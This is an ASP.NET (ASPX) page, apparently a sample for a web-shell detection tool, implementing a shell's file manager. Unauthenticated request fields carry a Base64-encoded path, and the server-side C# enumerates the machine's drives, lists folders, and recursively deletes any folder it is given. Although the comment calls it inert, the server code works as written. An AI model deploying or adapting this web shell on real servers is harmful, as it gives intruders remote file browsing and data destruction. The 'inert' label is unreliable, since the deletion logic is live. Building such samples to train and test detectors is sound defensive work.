<%@ Page Language="C#" ValidateRequest="false" EnableViewStateMac="false" %>
<%@ Import Namespace="System.IO" %>
<%-- webhunt test sample (inert): a shell's file manager. The drives of the machine are listed, the
     target and the Base64-encoded path come back in hidden postback fields and a helper decodes the
     path before the folder is listed or deleted. --%>
<script runat="server">
    string Unb64(string s) { return System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(s)); }
    string B64(string s) { return Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(s)); }

    protected void Page_Load(object sender, EventArgs e)
    {
        foreach (string d in Directory.GetLogicalDrives())
            drives.InnerHtml += "<a href=\"javascript:go('ls','" + B64(d) + "')\">" + d + "</a> ";
        string act = Request["__ACT"];
        string arg = Request["__ARG"];
        if (string.IsNullOrEmpty(act)) return;
        string path = Unb64(arg);
        if (act == "rm") Directory.Delete(path, true);
        foreach (string sub in Directory.GetDirectories(path))
            list.InnerHtml += "<a href=\"javascript:go('ls','" + B64(sub) + "')\">" + Path.GetFileName(sub) + "</a><br>";
    }
</script>
<form runat="server"><input type="hidden" name="__ACT"><input type="hidden" name="__ARG">
<div id="drives" runat="server"></div><div id="list" runat="server"></div></form>
